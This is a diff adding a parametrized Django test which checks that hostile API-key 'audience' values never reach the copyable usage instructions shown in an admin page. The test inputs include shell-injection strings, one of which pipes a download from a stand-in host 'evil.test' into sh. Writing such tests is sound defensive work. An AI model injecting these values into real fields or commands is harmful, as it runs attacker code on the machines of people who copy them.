@@ -12,7 +12,7 @@ from tests.admin import matrix
 from tests.admin.conftest import hidden_fields
 from tests.admin.pages import page
 from tests.admin.tenants import make_rows, text_of
-from tests.factories import make_organization
+from tests.factories import make_api_key, make_organization
 from token_exchange.models import AccessToken, AuditEvent, Credential, SigningKey
 
 pytestmark = pytest.mark.django_db
@@ -195,3 +195,29 @@ def test_no_page_holds_a_digest(desk, rows):
         assert [each for each in hidden if str(each) in text_of(response)] == []
         for name in ("secret_digest", "encrypted_private_key", "signing_input"):
             assert name not in text_of(response)
+
+
+@pytest.mark.parametrize(
+    "audience",
+    [
+        "https://x.test/;curl${IFS}evil.test|sh",
+        "https://x.test/$(evil)",
+        "https://x.test/`evil`",
+        "https://x.test/'&evil&'",
+        "https://x.test/\\",
+        "https://x.test/#evil",
+        "https://x.test/{evil}",
+    ],
+)
+def test_lines_that_others_copy_run_nothing(desk, limited, ours, audience):
+    """The operator of a tenant writes the audience, and who looks after all of them copies."""
+    key = make_api_key(organization=ours, scopes=["a"]).credential
+    url = page("apikey", "change", key)
+    form = limited.get(url).context["adminform"].form
+    values = {name: form[name].value() or "" for name in ("name", "metadata", "scopes")}
+    values |= {"audience": audience, "allowed_networks": ""}
+    limited.post(url, values)
+    assert Credential.objects.get(pk=key.pk).audience == [audience]
+    lines = "".join(text for _label, text in desk.get(url).context["how_to_use"])
+    assert audience not in lines
+    assert "https://issuer.test" in lines
